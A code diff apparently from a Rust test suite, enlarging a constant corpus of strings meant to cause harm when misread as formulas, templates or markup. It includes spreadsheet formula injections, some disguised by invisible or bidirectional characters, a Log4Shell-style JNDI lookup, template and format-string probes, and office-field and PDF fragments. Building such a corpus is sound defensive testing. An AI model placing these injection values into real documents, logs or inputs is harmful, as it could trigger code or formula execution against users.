@@ -1,7 +1,7 @@
 //! Sixty-odd texts that do harm where they are taken for something else than text.
 
 /// The texts.
-pub(crate) const CORPUS: [&str; 64] = [
+pub(crate) const CORPUS: [&str; 80] = [
     // Formulas of spreadsheets.
     "=1+1",
     "+1+1",
@@ -70,6 +70,23 @@ pub(crate) const CORPUS: [&str; 64] = [
     "{\\rtf1 x}",
     "${jndi:ldap://x.invalid} {{7*7}} %s%n \\u0000",
     "   ",
+    // What else formats of office programs, of data and of print give a meaning to.
+    "_x0041_ _x000d_ &#x41;",
+    "{=1+1} #REF! {HYPERLINK \"http://x.invalid\"} INCLUDETEXT",
+    "\u{3000}=1+1",
+    "\u{61c}=1+1",
+    "\u{a0}@SUM(A1)",
+    "\u{b}=1+1",
+    "a\tb\tc",
+    "x\" ; <urn:x> \"y\"\"\" . \\u0022",
+    "@prefix x: <http://x.invalid/> . # y",
+    "---\n# curie_map: x\n...",
+    "{\"a\": [null]}",
+    ") >> endobj stream endstream (\\",
+    "[^1]: note\n$$x$$ :::",
+    "Line\n====\n    code\n+ item\n1) item",
+    "\u{e5}\u{202d}אבגד\u{202c} \u{2067}x",
+    "محمد بن راشد",
 ];
 
 /// A single word of ten thousand characters.
